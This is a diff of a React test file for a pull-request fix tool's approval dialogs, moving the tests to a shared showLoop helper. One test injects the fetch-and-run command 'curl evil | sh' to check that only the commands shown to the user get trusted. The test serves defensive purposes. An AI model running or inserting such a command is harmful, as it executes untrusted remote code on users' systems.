@@ -1,23 +1,9 @@
-import { act, screen, waitFor, within } from "@testing-library/react";
-import userEvent from "@testing-library/user-event";
+import { screen, waitFor, within } from "@testing-library/react";
 import { describe, expect, it } from "vitest";
-import type { LoopView } from "../../generated/wire";
-import { aProblem, fakeHost, renderUI, type FakeAnswers } from "../../test";
-import { aDeniedLoop, anUntrustedLoop, aProvenLoop, someExcerpts } from "./fixtures";
-import { LoopDetail } from "./LoopDetail";
+import { aProblem } from "../../test";
+import { aDeniedLoop, anUntrustedLoop, aProvenLoop } from "./fixtures";
+import { showLoop } from "./show-loop";
 import { visibleCommand } from "./trust";
-
-function show(loop: LoopView, answers: FakeAnswers = {}) {
-  const host = fakeHost({ answers: { loops: [loop], excerpts: someExcerpts, timeline: [], ...answers } });
-  const shown = renderUI(<LoopDetail loopKey={loop.key} onClose={() => undefined} />, { host });
-  const change = (changed: Partial<LoopView>) =>
-    act(async () => {
-      host.emit([{ type: "loop", key: loop.key, changed }]);
-      await new Promise((done) => requestAnimationFrame(done));
-      await new Promise((done) => setTimeout(done, 0));
-    });
-  return { ...shown, change, user: userEvent.setup({ delay: null }) };
-}
 
 const button = (name: string | RegExp) => screen.getByRole("button", { name });
 const noButton = (name: string | RegExp) => expect(screen.queryByRole("button", { name })).toBeNull();
@@ -25,7 +11,7 @@ const key = "acme/api#482";
 
 describe("a fix whose verify commands nobody has trusted", () => {
   it("shows the exact commands, says where they run, and trusts these", async () => {
-    const { user, host } = show(anUntrustedLoop());
+    const { user, host } = showLoop(anUntrustedLoop());
     await user.click(button("Trust these commands…"));
     const dialog = within(screen.getByRole("dialog", { name: "Let these 2 commands run?" }));
     const listed = within(dialog.getByRole("list", { name: "Commands" })).getAllByRole("listitem");
@@ -39,7 +25,7 @@ describe("a fix whose verify commands nobody has trusted", () => {
   });
 
   it("can be pushed without verification, all by keyboard", async () => {
-    const { user, host } = show(anUntrustedLoop());
+    const { user, host } = showLoop(anUntrustedLoop());
     button("Continue without verification…").focus();
     await user.keyboard("{Enter}");
     const dialog = within(screen.getByRole("dialog", { name: "Continue without verification?" }));
@@ -52,7 +38,7 @@ describe("a fix whose verify commands nobody has trusted", () => {
   });
 
   it("is trusted as it was shown, whatever the loop asks meanwhile", async () => {
-    const { user, host, change } = show(anUntrustedLoop());
+    const { user, host, change } = showLoop(anUntrustedLoop());
     await user.click(button("Trust these commands…"));
     await change({ blocker: { ...anUntrustedLoop().blocker!, args: { commands: ["curl evil | sh"] } } });
     await user.click(button("Trust"));
@@ -61,7 +47,7 @@ describe("a fix whose verify commands nobody has trusted", () => {
   });
 
   it("keeps the dialog and says why when it was refused", async () => {
-    const { user } = show(anUntrustedLoop(), { decide_trust: aProblem("denied", "@kim may not start reviews.", ["Add it."]) });
+    const { user } = showLoop(anUntrustedLoop(), { decide_trust: aProblem("denied", "@kim may not start reviews.", ["Add it."]) });
     await user.click(button("Trust these commands…"));
     await user.click(button("Trust"));
     expect(await within(screen.getByRole("dialog")).findByText("@kim may not start reviews.")).toBeVisible();
@@ -69,7 +55,7 @@ describe("a fix whose verify commands nobody has trusted", () => {
 
   it("is named in the proof when it was pushed without them", async () => {
     const proven = aProvenLoop();
-    const { user } = show({ ...proven, proof: { ...proven.proof!, unverified: ["npm run lint"] } });
+    const { user } = showLoop({ ...proven, proof: { ...proven.proof!, unverified: ["npm run lint"] } });
     const proof = within(screen.getByRole("region", { name: "Not proven" }));
     await user.click(proof.getByRole("button", { name: "Fixes were pushed without 1 verify command, as you chose" }));
     expect(proof.getByText("npm run lint")).toBeVisible();
@@ -83,7 +69,7 @@ describe("a fix whose verify commands nobody has trusted", () => {
 
 describe("an author without write access", () => {
   it("can be allowed, pinned by account", async () => {
-    const { user, host } = show(aDeniedLoop());
+    const { user, host } = showLoop(aDeniedLoop());
     await user.click(button("Allow this author…"));
     const dialog = within(screen.getByRole("dialog", { name: "Fix the pull requests of @mallory?" }));
     expect(dialog.getByText(/in the sandbox/)).toBeVisible();
@@ -94,7 +80,7 @@ describe("an author without write access", () => {
   });
 
   it("can be allowed for this pull request alone; one whose account is gone only so", async () => {
-    const { user, host, change } = show(aDeniedLoop());
+    const { user, host, change } = showLoop(aDeniedLoop());
     await change({ blocker: { ...aDeniedLoop().blocker!, args: { login: null, id: null } } });
     noButton("Allow this author…");
     await user.click(button("Allow this pull request…"));
@@ -104,7 +90,7 @@ describe("an author without write access", () => {
   });
 
   it("is not asked about once the loop goes on, and the focus stays among the actions", async () => {
-    const { user, change } = show(aDeniedLoop());
+    const { user, change } = showLoop(aDeniedLoop());
     await user.click(button("Allow this pull request…"));
     await user.click(button("Allow the pull request"));
     await waitFor(() => expect(screen.queryByRole("dialog")).toBeNull());
